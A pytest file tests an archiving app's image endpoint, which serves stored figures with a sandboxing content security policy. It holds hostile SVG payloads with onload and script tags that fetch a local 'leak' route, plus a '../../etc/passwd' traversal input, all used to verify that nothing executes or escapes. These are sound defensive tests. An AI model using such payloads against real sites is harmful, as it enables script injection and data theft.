"""GET /images/{sha256}: archived figures served from linkvault's own origin, inert."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from app.main import create_app
from app.settings import Settings
from archiver import Store, make_engine
from archiver.document import Document
from archiver.extract import extract
from archiver.models import Image, Link, Snapshot, utcnow
from archiver.pipeline import Pipeline
from archiver.sources import parse_text
from tests.app._archive import LiveServer
from tests.support import pages
from tests.support.site import LocalSite

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c4944415478da63f8cfc000000301010018dd8db00000000049454e44ae426082"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    settings = Settings(data_dir=tmp_path)  # type: ignore[call-arg]
    app = create_app(settings)
    with TestClient(app) as test_client:
        with app.state.vault.store.session() as session:
            for data, kind in ((PNG, "image/png"), (SVG, "image/svg+xml")):
                session.add(
                    Image(
                        sha256=hashlib.sha256(data).hexdigest(),
                        content_type=kind,
                        size=len(data),
                        url="https://example.org/figure",
                        fetched_at=utcnow(),
                        data=data,
                    )
                )
        yield test_client


@pytest.mark.parametrize(("data", "kind"), [(PNG, "image/png"), (SVG, "image/svg+xml")])
def test_an_image_is_served_inert_and_cached_for_good(
    client: TestClient, data: bytes, kind: str
) -> None:
    response = client.get(f"/images/{hashlib.sha256(data).hexdigest()}")
    assert response.status_code == 200
    assert response.content == data
    assert response.headers["content-type"] == kind
    assert response.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert "set-cookie" not in response.headers
    head = client.head(f"/images/{hashlib.sha256(data).hexdigest()}")
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-security-policy"] == "default-src 'none'; sandbox"


@pytest.mark.parametrize(
    "name",
    ["0" * 64, "A" * 64, "abc", "../../etc/passwd", hashlib.sha256(PNG).hexdigest() + "0"],
)
def test_an_unknown_or_malformed_hash_is_404(client: TestClient, name: str) -> None:
    response = client.get(f"/images/{name}")
    assert response.status_code == 404
    assert response.headers["x-content-type-options"] == "nosniff"


def test_no_token_is_needed(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path, api_token="secret")  # type: ignore[call-arg]
    with TestClient(create_app(settings)) as test_client:
        assert test_client.get("/images/" + "0" * 64).status_code == 404  # not 401


CHROMIUM = Path("/usr/bin/chromium")


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Chromium is not installed")
def test_a_scripted_svg_opened_in_chromium_runs_nothing(
    tmp_path: Path, local_site: LocalSite
) -> None:
    from playwright.sync_api import sync_playwright

    local_site.route("/leak", b"", content_type="text/plain")
    leak = local_site.url("/leak")
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1);fetch(\'{leak}?onload\')">'
        f"<script>alert(2);fetch('{leak}?script');new Image().src='{leak}?img'</script>"
        f'<image href="{leak}?href" width="1" height="1"/></svg>'
    ).encode()
    settings = Settings(data_dir=tmp_path)  # type: ignore[call-arg]
    app = create_app(settings)
    with LiveServer(app) as server:
        with app.state.vault.store.session() as session:
            session.add(
                Image(
                    sha256=hashlib.sha256(svg).hexdigest(),
                    content_type="image/svg+xml",
                    size=len(svg),
                    url="https://example.org/hostile.svg",
                    fetched_at=utcnow(),
                    data=svg,
                )
            )
        requests: list[str] = []
        dialogs: list[str] = []
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox"]
            )
            page = browser.new_page()
            # "request" fires for what the CSP then blocks; only finished requests left.
            page.on("requestfinished", lambda request: requests.append(request.url))
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            image_url = f"{server.url}/images/{hashlib.sha256(svg).hexdigest()}"
            page.goto(image_url)
            page.wait_for_timeout(500)
            browser.close()
    assert dialogs == []
    assert local_site.hits("/leak") == 0
    assert [url for url in requests if not url.startswith(server.url)] == []


def test_figures_archived_through_the_real_extraction_are_served_with_their_bytes(
    tmp_path: Path, local_site: LocalSite
) -> None:
    """End to end: the page's own extraction finds the figure, archiving fetches its image,
    GET /images serves the original bytes."""
    figure = "<figure><img src='/fig.png' alt='A diagram'><figcaption>Flow</figcaption></figure>"
    article = pages.article("Diagrams", pages.filler("diagrams"), "FIGURE", pages.filler("flow"))
    html = article.replace("<p>FIGURE</p>", figure).encode()
    extracted = extract(html, "text/html", local_site.url("/post"), "utf-8")
    assert extracted.document is not None and list(extracted.document.figures())
    local_site.route("/fig.png", PNG, content_type="image/png")
    local_site.route("/post", html)
    settings = Settings(data_dir=tmp_path, allow_private=True)  # type: ignore[call-arg]
    store = Store(make_engine(settings.resolved_database_url))
    store.create_schema()
    imported = store.links.add_links(parse_text(local_site.url("/post"), "test.txt").links)
    tasks = store.links.tasks_for_archive(imported.link_ids)
    with ThreadPoolExecutor(max_workers=1) as executor:
        pipeline = Pipeline(store.links, settings.fetch_config(), workers=1, executor=executor)
        asyncio.run(pipeline.run(tasks))
    with store.session() as session:
        snapshot = session.scalars(select(Snapshot)).one()
        assert session.get_one(Link, imported.link_ids[0]).status == "ok"
        assert snapshot.document is not None
        shown = list(Document.from_json(snapshot.document).figures())
    store.engine.dispose()
    assert [f["image"] for f in shown] == [hashlib.sha256(PNG).hexdigest()]
    with TestClient(create_app(settings)) as client:
        response = client.get(f"/images/{shown[0]['image']}")
    assert response.status_code == 200 and response.content == PNG
    assert local_site.hits("/fig.png") == 1
